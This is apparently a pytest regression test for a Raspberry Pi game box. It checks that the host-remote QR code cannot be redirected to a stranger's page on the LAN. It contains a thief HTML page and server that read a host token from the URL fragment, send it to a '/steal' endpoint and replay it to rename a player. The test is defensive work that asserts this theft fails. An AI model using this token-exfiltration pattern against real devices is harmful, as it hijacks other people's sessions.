"""The host-token theft of a stranger on the same Wi-Fi, played end to end in chromium on loopback.

The stranger runs a page of their own at 127.0.0.2 (another address of this machine standing in
for their phone on the LAN) on the big screen's port, and asks the box, through the page route,
to put that address in the OLED's host QR. The host then opens the host QR as their phone would
(decoded from the OLED, opened in chromium). Had the QR pointed at the stranger, their page would
read the token from the address's fragment and use it to rename player 1 "Pwned". It must point
at the box, and the stranger must get nothing."""
from __future__ import annotations

import json
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.error import HTTPError

import pytest
import zxingcpp

from pi_companion.box import Wake
from pi_companion.core.events import Turn
from pi_companion.web import headless
from pi_companion.web.live import free_port, live_box, until

STRANGER = "127.0.0.2"
THIEF_PAGE = b"""<!doctype html><title>free games</title><script>
fetch("/steal?t=" + encodeURIComponent(location.hash.slice(3)));
</script>"""


def qr_texts(image):
    big = image.convert("L").resize((512, 256), 0)
    return [found.text for found in zxingcpp.read_barcodes(big, formats=zxingcpp.BarcodeFormat.QRCode)]


def post(url: str, body: dict, token: str) -> tuple[int, dict]:
    req = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST",
                                 headers={"Content-Type": "application/json", "X-Host-Token": token})
    try:
        with urllib.request.urlopen(req, timeout=5) as r:
            return r.status, json.load(r)
    except HTTPError as err:
        return err.code, json.load(err)


def stranger_server(port: int, box_base: str, stolen: list[str]) -> ThreadingHTTPServer:
    """The stranger's page: it sends the fragment home, and home uses it on the box at once."""
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith("/steal?t="):
                token = self.path.split("=", 1)[1]
                stolen.append(token)
                post(box_base + "/api/command", {"cmd": "rename", "player": 0, "name": "Pwned"}, token)
                body = b"ok"
            else:
                body = THIEF_PAGE
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args) -> None:
            pass
    server = ThreadingHTTPServer((STRANGER, port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def test_the_host_qr_never_points_at_a_strangers_page(tmp_path):
    why = headless.missing()
    if why:
        pytest.fail(why)
    port = free_port()
    stolen: list[str] = []
    with live_box(tmp_path, board_url=f"http://testbox.local:{port}/", web_port=port) as live:
        thief = stranger_server(port, live.base, stolen)
        try:
            status, reply = post(live.base + "/api/command", {"cmd": "address", "address": STRANGER}, "x")
            assert status == 400 and reply["error"].startswith("unknown command"), reply
            box = live.box
            live.tap("MENU")                                    # MENU > Show on TV / phone > Host remote
            live.until(lambda: box.engine.menu is not None)
            box.queue.put(Wake(Turn(box.now(), -1)))
            live.until(lambda: box.engine.menu.selected == "web")
            live.tap("YES")
            box.queue.put(Wake(Turn(box.now(), 1)))
            live.until(lambda: box.engine.menu.selected == "web:host")
            live.tap("YES")
            until(lambda: qr_texts(box.display.device.image), 5, "the OLED never drew the host QR")
            scanned = qr_texts(box.display.device.image)[0]
            with headless.chromium(*headless.SIZES["phone"]) as phone:
                phone.get(scanned)                          # the host's phone opens what it scanned
                time.sleep(1.5)                             # time for a theft to land
                assert stolen == [] and box.engine.players[0] == "Ada", (stolen, box.engine.players)
                assert phone.execute_script("return location.host") == f"127.0.0.1:{port}"
                headless.wait(phone, lambda d: d.find_element("id", "status").text == "live")
            assert scanned == f"http://127.0.0.1:{port}/host#t={live.hub.token}"
        finally:
            thief.shutdown()
            thief.server_close()
